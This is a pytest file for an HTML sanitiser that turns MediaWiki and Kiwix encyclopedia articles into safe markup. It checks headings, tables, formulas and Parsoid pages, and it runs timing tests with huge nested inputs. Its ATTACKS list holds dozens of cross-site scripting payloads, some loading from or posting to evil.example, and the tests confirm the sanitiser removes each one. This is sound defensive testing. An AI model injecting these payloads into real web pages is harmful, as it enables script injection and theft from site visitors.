"""Articles that mean harm, articles that are broken, and articles as MediaWiki and Kiwix write them."""

# ruff: noqa: E501 - markup is easier to read in one line

import html as entities
import re
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from humaneval.encyclopedia.base import Heading
from humaneval.encyclopedia.html import limiter
from humaneval.encyclopedia.html.limiter import rewrite
from humaneval.encyclopedia.html.rewriter import ArticleRewriter
from humaneval.encyclopedia.html.rules import CLASSES
from humaneval.encyclopedia.html.sanitiser import MAX_ARTICLE_CHARACTERS, Sanitised, plain, sanitise
from humaneval.encyclopedia.sources.zim import image_path, link_target, raw_article
from tests.encyclopedias import AT, GIANT_TABLE, HOSTILE

TAG_NAMES = """
a abbr b bdi bdo blockquote br caption cite code col colgroup data dd del dfn div dl dt em figcaption figure
h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strong sub sup table tbody td tfoot th thead
time tr u ul var wbr
"""
TAGS = set(TAG_NAMES.split())
ATTRIBUTES = {
    "a": {"href", "rel", "data-article", "data-external"},
    "abbr": {"title"},
    "bdo": {"dir"},
    "col": {"span"},
    "colgroup": {"span"},
    "div": {"role", "tabindex", "aria-label"},
    "img": {"src", "alt", "width", "height", "loading", "decoding"},
    "li": {"value"},
    "ol": {"start", "type"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
    "time": {"datetime"},
}
EVERYWHERE = {"id", "lang", "dir", "class"}


class Inspector(HTMLParser):
    """Goes through a result as a browser would, and complains about all that is not on the lists above."""

    def __init__(self, *, own_ids: bool = True) -> None:
        """``own_ids``: they are as the rewriter writes them, and spans are too."""
        super().__init__()
        self.own_ids = own_ids
        self.ids: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            value = value or ""
            assert name in EVERYWHERE | ATTRIBUTES.get(tag, set()), (tag, name, value)
            if name == "class":
                assert set(value.split()) <= CLASSES
            elif name == "id":
                assert value.startswith("s-") or not self.own_ids
                self.ids.append(value)
            elif name == "href":
                assert re.match(r"(?:https?://|\?path=|#s-)", value), value
            elif name == "src":
                assert value.startswith("?image=")
            elif name in ("colspan", "rowspan", "span") and self.own_ids:
                assert 1 <= int(value) <= 200
        if tag not in ("br", "hr", "img", "wbr", "col"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    handle_pi = unknown_decl = handle_comment


def made(html: str, *, title: str = "T", path: str = "A") -> Sanitised:
    return sanitise(
        html,
        title=title,
        link_target=lambda address: link_target(address, path),
        image_path=lambda address: image_path(address, path),
    )


def shown(html: str, **options: Any) -> str:
    return made(html, **options).html(AT)


def inspect(html: str) -> str:
    result = shown(html)
    inspector = Inspector()
    inspector.feed(result)
    inspector.close()
    assert inspector.open == []
    assert len(set(inspector.ids)) == len(inspector.ids)
    return result


# --- Harm ------------------------------------------------------------------------------------------------------------

ATTACKS = [
    HOSTILE,
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="https://evil.example/pixel.png"><img src="//evil.example/p.png"><img src="data:image/png;base64,AA==">',
    "<img srcset='https://evil.example/a.png 1x' src=b.png>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(2)</script>",
    "<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>",
    "<a href='javascript:alert(1)'>x</a><a href='JaVaScRiPt:alert(1)'>x</a><a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a><a href='java\nscript:alert(1)'>x</a><a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href='vbscript:x'>x</a><a href='blob:x'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a><a href='javascript&colon;alert(1)'>x</a><a href='//evil.example'>x</a>",
    "<a href='https://evil.example/\"onclick=alert(1)'>x</a><a href='Some\"onclick=\"alert(1)'>x</a>",
    "<a href=https://x.example target=_top onclick=alert(1) ping=https://evil.example download>x</a>",
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example';</style>",
    "<p style='background:url(https://evil.example/x)' class='page-header button' id=answer name=body>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x><applet></applet>",
    "<form action=https://evil.example><input name=password><button formaction=x>go</button><select></select></form>",
    "<button autofocus onfocus=alert(1)>x</button><details ontoggle=alert(1) open>x</details>",
    "<video src=x onerror=alert(1)></video><audio controls></audio><body onload=alert(1)><html onclick=x>",
    "<table background=https://evil.example/x><td background=x></table><frameset><frame src=x></frameset>",
    "<div hx-get=/submit/ hx-trigger=load data-hx-post=/x x-data y>x</div><div data-article=x data-external>x</div>",
    "<td colspan=100000 rowspan=100000>x</td><table><tr><td colspan=100000 rowspan=-5>x</table><ol start=9999999999>",
    "<!--><script>alert(1)</script>--><!-- --!><img src=x onerror=alert(1)> --><![CDATA[<script>alert(1)</script>]]>",
    "<p title='<script>alert(1)</script>' lang='\"><script>alert(1)</script>'>x</p><div aria-label='x' role=alert>",
    "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE x [<!ENTITY y 'z'>]><x:script>alert(1)</x:script>",
    "<span id='x\" onclick=\"alert(1)'>x</span><h2 id='\"><script>alert(1)</script>'>Head</h2>",
    "<a href='#\"><script>alert(1)</script>'>x</a><a href='B#\"><script>'>y</a><a href='#x y'>z</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "<h2><a href=x><img src=a.png></a><script>x</script>Title<form>y</form></h2>",
    "<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)><keygen><dialog open>x</dialog>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_harmful_comes_through(attack: str) -> None:
    result = inspect(attack)
    assert not re.search(r"<\s*script|\son\w+\s*=|srcdoc|<style|<svg|<math|<form", result, re.IGNORECASE)


PIECES = """
<b>  </b>  <p>  </p>  <div>  </div>  <table>  </table>  <tr>  <td>  </td>  <h2>  </h2>  <a href=x>  </a>
<a href='javascript:x'>  <ul>  <li>  </ul>  <svg>  </svg>  <math>  </math>  <script>  </script>  <style>
</style>  <!--  -->  <textarea>  </textarea>  <template>  <  <img src=x onerror=y>  <noscript>
</noscript>  <mtext>  <title>  </title>  <span id=a>  </span>  text  &lt;  &amp;  "  '  >  =  <select>
<option>  <form>  </form>  <caption>  </h3>  <figure>  <figcaption>  <sup class=reference>  </sup>
<section>  <foreignObject>  <plaintext>
"""
FRAGMENTS = st.lists(st.sampled_from(re.split(r"\n|  ", PIECES.strip("\n"))), max_size=30)


@settings(max_examples=150, deadline=None)
@given(FRAGMENTS)
@example(["<a href=x>", "<h2>", "<a href=x>", "</h2>"])
def test_no_soup_of_tags_comes_through(fragments: list[str]) -> None:
    inspect("".join(fragments))


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=80))
def test_no_text_comes_through_as_markup(text: str) -> None:
    inspect(text)


def test_a_mistake_of_the_rewriter_lets_nothing_through(monkeypatch: pytest.MonkeyPatch) -> None:
    """The last step stands by itself: whatever comes out of the one before, only what is on its list is left."""
    for wrong in ATTACKS:
        monkeypatch.setattr(ArticleRewriter, "html", wrong)
        result = sanitise("<p>x</p>", title="", link_target=lambda address: None, image_path=lambda address: None)
        inspector = Inspector(own_ids=False)
        inspector.feed("".join(result.parts))
        inspector.close()


def test_what_a_page_says_of_addresses_is_escaped() -> None:
    html = made("<a href=B>b</a><a href=https://x.example/>x</a><img src=p.png>").html(
        replace(AT, link=lambda path: '"><script>', outside=lambda url: "'><script>", image=lambda path: '"<script>')
    )
    assert "<script" not in html
    assert html.count("&lt;script&gt;") == 3


def test_the_mark_of_an_address_cannot_be_forged() -> None:
    """A text that looks like the place of an address stays a text: the token is another each time."""
    result = made("<p>#000000000000000000000000-0; <a href=B>b</a></p>")
    assert "#000000000000000000000000-0;" in "".join(result.parts)
    assert len(result.references) == 1


# --- Too much of it --------------------------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 60_000,
        "<b>" * 60_000,
        "<div><!--</div>-->" * 100_000,
        "<div a='</div>'>" * 100_000,
        "<div><textarea></div></textarea>" * 50_000,
        "<table><tr><td>" * 50_000,
        "<svg><g>" * 100_000,
        "<p><b class=x>" * 50_000,
        f"<p {' '.join(f'a{number}=1' for number in range(60_000))}>x",
        "<p a='" * 60_000,
        "<" * 300_000,
        "</" * 150_000,
        "<!" * 150_000,
        "<a " * 100_000,
        '<a b="' * 60_000,
        "&" * 400_000,
        "&amp;" * 400_000,
        f"<a href='{'&amp;' * 400_000}'>x</a>",
        "<h2>" * 100_000,
        "<p>x</p>" * 30_000,
        "<br>" * 150_000,
        "<ul><li>" * 50_000,
        "<a href=x>" * 100_000,
        "<span id=a>" * 100_000,
        "<!DOCTYPE x" * 100_000,
        "<![CDATA[" * 100_000,
        "x" * (MAX_ARTICLE_CHARACTERS + 10),
    ],
    ids=lambda html: html[:24],
)
@pytest.mark.timeout(60)
def test_no_article_takes_long(html: str) -> None:
    """A few tenths of a second each; minutes where the time grows with the square of the length."""
    inspect(html)
    plain(html)


@pytest.mark.slow
def test_a_giant_table_is_shown_in_a_frame_of_its_own() -> None:
    result = inspect(GIANT_TABLE)
    assert result.startswith('<div role="group" tabindex="0" aria-label="Table 1" class="article-scroll"><table')
    assert result.count("<td>") == 18_000
    assert not made(GIANT_TABLE).cut


def test_what_is_too_much_is_cut_and_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limiter, "MAX_ELEMENTS", 50)
    result = made("<p>x</p>" * 55)
    assert result.cut
    assert result.text.count("x") == 50
    assert made("y" * (MAX_ARTICLE_CHARACTERS + 1)).cut
    assert not made("<p>x</p>").cut


def test_ordinary_depth_is_kept_whole() -> None:
    nested = "<ul><li>" * 60 + "x" + "</li></ul>" * 60
    assert shown(nested).count("<ul>") == 60
    html, cut = rewrite("<div><p>a<p>b<table><tr><td>c<td>d</table></div>" * 3000, attributes=())
    assert not cut
    assert html.count("<td>") == 6000


# --- Articles as they are --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "heading",
    [
        '<h2><span class="mw-headline" id="Early_life">Early <i>life</i></span><span class="mw-editsection">[edit]</span></h2>',
        '<div class="mw-heading mw-heading2"><h2 id="Early_life">Early life</h2><span class="mw-editsection">x</span></div>',
        '<section data-mw-section-id="1"><h2 id="Early_life">Early life</h2></section>',
        '<details data-level="2" open><summary class="section-heading"><h2 id="Early_life">Early life</h2></summary></details>',
    ],
)
def test_headings_are_read_in_every_dialect(heading: str) -> None:
    result = made(f"<p>Lead</p>{heading}<p>x</p><a href='#Early_life'>up</a>")
    assert result.headings == (Heading(2, "Early life", "s-Early_life"),)
    html = result.html(AT)
    assert re.search(r'<h3 id="s-Early_life">(?:<span>)?Early (?:<i>)?life', html)
    assert '<a href="#s-Early_life">up</a>' in html
    assert "edit" not in result.text
    assert result.text == "Lead\n\n## Early life\n\nx\n\nup" or result.text == "Lead\n\n## Early life\n\nxup"


def test_headings_have_anchors_of_their_own_even_if_they_are_alike() -> None:
    result = made("<h2>Year</h2><h2>Year</h2><h3 id=Year>Year</h3><h2>???</h2><h2></h2><h6 id='a b'>Six</h6>")
    assert [heading.anchor for heading in result.headings] == ["s-Year", "s-Year_2", "s-Year_3", "s-???", "s-Six"]
    assert [heading.level for heading in result.headings] == [2, 2, 3, 2, 6]
    assert inspect("<h5>Five</h5><h6>Six</h6>").count("<h6") == 2


def test_tables_infoboxes_and_lists_stay() -> None:
    html = inspect(
        '<table class="infobox vcard"><caption>Pat</caption><tbody><tr><th scope="row">Bats</th><td>Right</td></tr></tbody>'
        '</table><table class="wikitable sortable"><tr><th colspan="2">Year</th></tr><tr><td rowspan="3">1998</td></tr>'
        "<tr><td><table><tr><td>inner</td></tr></table></td></tr></table>"
        '<ol start="3"><li>three</li></ol><dl><dt>term</dt><dd>what</dd></dl><div class="div-col"><ul><li>x</li></ul></div>'
    )
    assert 'class="article-scroll article-infobox"><table class="article-table"><caption>Pat</caption>' in html
    assert '<th scope="row">Bats</th>' in html
    assert '<th colspan="2">Year</th>' in html
    assert '<td rowspan="3">1998</td>' in html
    assert html.count("article-scroll") == 2, "a table in a table needs no frame of its own"
    assert '<ol start="3">' in html
    assert '<div class="article-columns">' in html


def test_what_is_only_of_use_on_the_original_site_goes() -> None:
    text = made(
        '<div class="hatnote">For others, see X.</div><div id="toc">Contents</div><div class="navbox">Nav</div>'
        '<table class="ambox"><tr><td>needs citations</td></tr></table><span style="display:none">sort</span>'
        '<p hidden>no</p><div role="navigation">bar</div><style>.x{}</style><p>Text<sup class="reference">[1]</sup>.</p>'
        '<ol class="references"><li>A book</li></ol><div class="mw-jump-link">Jump</div>'
    )
    assert text.text == "For others, see X.\n\nText."
    html = text.html(AT)
    assert '<div class="article-note">' in html
    assert '<sup class="article-reference">[1]</sup>' in html, "shown, but not part of the text"
    assert "A book" in html


def test_formulas_are_shown_as_text() -> None:
    html = (
        'It is <span class="mwe-math-element"><span><math alttext="x"><mi>x</mi></math></span>'
        '<img class="mwe-math-fallback-image-inline" src="https://x.example/m.svg" alt="{\\displaystyle x^{2}}"></span>.'
    )
    assert made(html).text == "It is {\\displaystyle x^{2}} ."
    assert '<code class="article-formula">{\\displaystyle x^{2}}</code>' in inspect(html)
    assert made('It is <math alttext="x &lt; 1"><mi>x</mi></math>.').text == "It is x < 1."


@pytest.mark.parametrize(
    ("formula", "text"),
    [
        ("<mi>a</mi><mo>&lt;</mo><mi>b</mi>", "a<b"),
        (
            "<semantics><mi>x</mi><annotation encoding='application/x-tex'>\\frac{x}{y}</annotation></semantics>",
            "\\frac{x}{y}",
        ),
        ("<mi>x</mi></mrow></mrow><mi>y", "xy"),
    ],
)
def test_a_formula_without_a_picture_is_written_out(formula: str, text: str) -> None:
    assert made(f"It is <math>{formula}</math>.").text == f"It is {text}."
    assert f'<code class="article-formula">{entities.escape(text, quote=False)}</code>' in inspect(
        f"<math>{formula}</math>"
    )


def test_formulas_take_linear_time() -> None:
    for html in (
        "<math>" * 300_000,
        "<math><mi>x" * 100_000 + "</math>" * 100_000,
        "<math>" + "<mrow>" * 500_000 + "</math>",
    ):
        made(html)  # quadratic time would take hours


def test_a_link_around_nothing_is_no_link() -> None:
    assert "<a" not in inspect('<a href="B"></a><a href="C"> </a><a href="https://x.example/"><span></span></a>')
    assert inspect('<a href="B"><img src="p.png" alt="A picture"></a>').count("<a") == 1


PARSOID = """<!DOCTYPE html>
<html prefix="dc: http://purl.org/dc/terms/" about="https://en.wikipedia.org/wiki/Special:Redirect/revision/1054288291"><head
 prefix="mwr: https://en.wikipedia.org/wiki/Special:Redirect/"><meta property="mw:pageId" content="13924699"/><link
 rel="dc:replaces" resource="mwr:revision/1029323736"/><link rel="dc:isVersionOf" href="//en.wikipedia.org/wiki/A_(b)"/>
<base href="//en.wikipedia.org/wiki/"/><title>A (b)</title></head><body id="mwAA" lang="en" class="mw-parser-output" dir="ltr">
<section data-mw-section-id="0" id="mwAQ"><style data-mw='{"parts":[{"x":"&lt;/style>"}]}'>.hatnote{}</style>
<div role="note" class="hatnote navigation-not-searchable" about="#mwt1" id="mwAw">For others, see <a rel="mw:WikiLink"
 href="./A" title="A" class="mw-disambig">A</a>.</div><p id="mwBA"><link rel="mw:PageProp/Category" href="./Category:X"/>
<b id="mwCQ">A</b> was a <a rel="mw:WikiLink" href="./Civil_engineer" id="mwCw">civil engineer</a> and met <a rel="mw:WikiLink"
 href="./Nobody" class="new" id="mwGA">Nobody</a>.<sup about="#mwt12" class="mw-ref reference" id="cite_ref-1"
 data-mw='{"name":"ref"}'><a href="./A_(b)#cite_note-1"><span class="mw-reflink-text" id="mwLQ">[1]</span></a></sup></p>
</section><section data-mw-section-id="1" id="mwLg"><h2 id="References">References</h2><div class="mw-references-wrap"
 typeof="mw:Extension/references"><ol class="mw-references references" id="mwMg"><li about="#cite_note-1" id="cite_note-1"><a
 href="./A_(b)#cite_ref-1" rel="mw:referencedBy">↑</a> <span>A book</span></li></ol></div></section></body></html>"""


def test_a_page_of_parsoid_reads_as_it_should() -> None:
    """Laid out as https://en.wikipedia.org/wiki/William_Clark_(inventor) is, with other words."""
    inspect(PARSOID)
    result = made(PARSOID, title="A (b)", path="A_(b)")
    html = result.html(AT)
    assert '<sup id="s-cite_ref-1" class="article-reference"><a href="#s-cite_note-1">' in html, (
        "a place in the same article"
    )
    assert '<li id="s-cite_note-1"><a href="#s-cite_ref-1">↑</a>' in html
    assert html.count("data-article=") == 2, "what is still to be written is no link"
    assert "s-mw" not in html
    assert result.text == "For others, see A.\n\nA was a civil engineer and met Nobody.\n\n## References"
    raw = raw_article(PARSOID, path="A_(b)", title="")
    assert (raw.title, raw.page_id, raw.revision_id) == ("A (b)", 13924699, 1054288291)
    assert raw.url == "https://en.wikipedia.org/wiki/A_(b)"


def test_text_reads_like_text() -> None:
    text = made(
        "<p>One<br>two</p><ul><li>a<ul><li>b</li></ul></li></ul><table><tr><th>x</th><td>1<br>2</td></tr>"
        "<tr><td><p>p</p></td></tr></table><blockquote>said</blockquote>"
    ).text
    assert text == "One\ntwo\n\n- a\n\n- b\n\n| x | 1 2\n| p\n\nsaid"


def test_plain_text_leaves_out_what_nobody_sees() -> None:
    html = "<title>t</title><script>s</script><p>One</p><p>two &amp; <b>th</b>ree</p><svg><text>v</text></svg> end"
    assert plain(html) == "One two & three end"
    assert plain(HOSTILE).startswith("Hostile text.")
    assert "alert" not in plain(HOSTILE)
